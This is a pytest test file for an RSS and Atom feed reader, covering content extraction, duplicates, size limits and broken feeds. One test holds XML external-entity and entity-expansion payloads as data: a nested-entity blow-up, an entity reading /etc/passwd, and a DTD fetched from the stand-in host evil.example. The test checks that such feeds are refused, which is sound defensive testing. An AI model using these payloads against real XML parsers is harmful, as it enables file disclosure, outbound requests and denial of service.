"""RSS and Atom files."""

from __future__ import annotations

import pytest

from detente.source import Limits
from tests.source.helpers import done, pages, read, reasons, rss, skipped

FULL = (
    "<item><title>Talks &amp;amp; tea</title><link>http://p.example/1</link><guid>id-1</guid>"
    "<pubDate>Wed, 24 Oct 1962 10:00:00 GMT</pubDate><dc:creator xmlns:dc='http://purl.org/dc/elements/1.1/'>A. Bee</dc:creator>"
    "<description>Short.</description><content:encoded xmlns:content='http://purl.org/rss/1.0/modules/content/'>"
    "<![CDATA[<p>First&nbsp;one.</p><p>Second <b>bold</b> word.<br>New line.</p><script>no()</script>]]></content:encoded></item>"
)
ATOM = (
    '<feed xmlns="http://www.w3.org/2005/Atom"><title>The Paper</title><entry><title>Talks</title><id>urn:1</id>'
    '<link rel="self" href="http://p.example/self"/><link href="http://p.example/1"/><updated>1962-10-24</updated>'
    '<author><name>A. Bee</name><email>a@p.example</email></author><content type="{type}">{content}</content></entry></feed>'
)


def test_rss_item_is_a_page_of_its_full_content(tmp_path):
    path = tmp_path / "a.rss"
    path.write_text(rss(FULL))
    (page,) = pages(read(path))
    assert page.content == "First one.\n\nSecond bold word.\nNew line."
    assert (page.source, page.form, page.url) == (f"{path}#id-1", "clean", "http://p.example/1")
    assert (page.title, page.outlet, page.byline) == ("Talks & tea", "The Paper", "A. Bee")
    assert page.date == "Wed, 24 Oct 1962 10:00:00 GMT"


def test_item_with_a_summary_only_says_so(tmp_path):
    path = tmp_path / "a.xml"
    path.write_text(rss("<item><link>http://p.example/2</link><description>Only this.</description></item>"))
    (page,) = pages(read(path))
    assert (page.content, page.notes) == ("Only this.", ("feed: summary only",))
    assert page.source == f"{path}#http://p.example/2"


@pytest.mark.parametrize(
    ("kind", "content"),
    [
        ("html", "&lt;p&gt;One.&lt;/p&gt;&lt;p&gt;Two &amp;lt; three.&lt;/p&gt;"),
        ("xhtml", '<div xmlns="http://www.w3.org/1999/xhtml"><p>One.</p><p>Two &lt; three.</p></div>'),
        ("text", "One.\n\nTwo &lt; three."),
    ],
)
def test_atom_content_is_read_in_its_three_forms(tmp_path, kind, content):
    path = tmp_path / "a.atom"
    path.write_text(ATOM.format(type=kind, content=content))
    (page,) = pages(read(path))
    assert page.content == "One.\n\nTwo < three."
    assert (page.source, page.url, page.byline) == (f"{path}#urn:1", "http://p.example/1", "A. Bee")
    assert (page.outlet, page.date) == ("The Paper", "1962-10-24")


def test_items_without_text_are_counted(tmp_path):
    path = tmp_path / "a.rss"
    path.write_text(rss("<item><title>Bare</title></item>" * 3, FULL))
    outcomes = read(path)
    assert len(pages(outcomes)) == 1
    assert [(item.reason, item.count) for item in skipped(outcomes)] == [("no-text", 3)]


@pytest.mark.parametrize(
    "subset",
    [
        '<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss SYSTEM "http://evil.example/a.dtd" [ <!ENTITY % p SYSTEM "http://evil.example/p"> %p; ]>',
        '<!doctype rss [<!entity a "b">]>',
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_feed_that_declares_entities_is_refused(tmp_path, subset, encoding):
    path = tmp_path / "a.rss"
    item = "<item><guid>1</guid><description>&x;&b;</description></item>"
    path.write_bytes(rss(item, prolog=subset).replace('<?xml version="1.0"?>', "").encode(encoding))
    assert reasons(read(path)) == ["entities"]


def test_document_type_without_declarations_is_read_and_not_fetched(tmp_path, monkeypatch):
    import socket

    monkeypatch.setattr(socket, "create_connection", lambda *a, **k: pytest.fail("a connection was opened"))
    path = tmp_path / "a.rss"
    doctype = f'<!DOCTYPE rss PUBLIC "-//N//DTD RSS 0.91//EN" "file://{tmp_path}/no.dtd">'
    path.write_text(
        rss("<item><guid>1</guid><description>A &nbsp;b &unknown; c</description></item>", prolog=doctype)
    )
    assert [page.content for page in pages(read(path))] == ["A b &unknown; c"]


def test_deeply_nested_feed_is_refused(tmp_path):
    path = tmp_path / "a.rss"
    path.write_text(rss("<item>" + "<x>" * 100_000))
    assert reasons(read(path)) == ["deep-markup"]


def test_items_before_a_break_are_kept(tmp_path):
    path = tmp_path / "a.rss"
    path.write_text(rss(*(FULL.replace("id-1", f"id-{n}") for n in range(5)))[:-400])
    outcomes = read(path)
    assert len(pages(outcomes)) == 4
    assert (reasons(outcomes), done(outcomes)) == (["broken-feed"], [])


@pytest.mark.parametrize("text", ["<rss><channel>a & b", "<rss></rss>", "<feed/>"])
def test_feed_without_items_says_so(tmp_path, text):
    path = tmp_path / "a.rss"
    path.write_text(text)
    assert reasons(read(path)) in (["no-pages"], ["broken-feed"])


def test_same_guid_with_other_content_gets_a_number(tmp_path):
    path = tmp_path / "a.rss"
    path.write_text(rss(FULL, FULL.replace("Second", "Third"), FULL))
    outcomes = read(path)
    assert [page.source.partition("#")[2] for page in pages(outcomes)] == ["id-1", "id-1~2"]
    assert [item.reason for item in skipped(outcomes)] == ["duplicate"]


def test_summary_of_a_page_longer_than_the_limit_is_refused(tmp_path):
    path = tmp_path / "a.rss"
    path.write_text(rss(f"<item><guid>1</guid><description>{'word ' * 500}</description></item>", FULL))
    outcomes = read(path, limits=Limits(max_page_chars=500))
    assert (len(pages(outcomes)), reasons(outcomes)) == (1, ["too-large"])


def test_xml_that_is_no_feed_is_refused_with_advice(tmp_path):
    path = tmp_path / "a.xml"
    path.write_text('<?xml version="1.0"?><nitf><body>News</body></nitf>')
    assert reasons(read(path)) == ["unsupported"]


@pytest.mark.parametrize(
    "reference", ["&#xD800;", "&#55296;", "&#x110000;", "&#0;", "&#99999999999999999999;", "&amp;#xDFFF;"]
)
def test_reference_to_no_character_can_be_stored(tmp_path, reference):
    """Found by fuzzing: lxml hands such a reference on as broken UTF-8."""
    path = tmp_path / "a.rss"
    path.write_text(
        rss(
            f"<item><guid>1{reference}</guid><title>{reference}</title><description>a {reference} b</description></item>"
        )
    )
    (page,) = pages(read(path))
    assert page.content == "a \ufffd b"
    (page.source + (page.title or "")).encode()
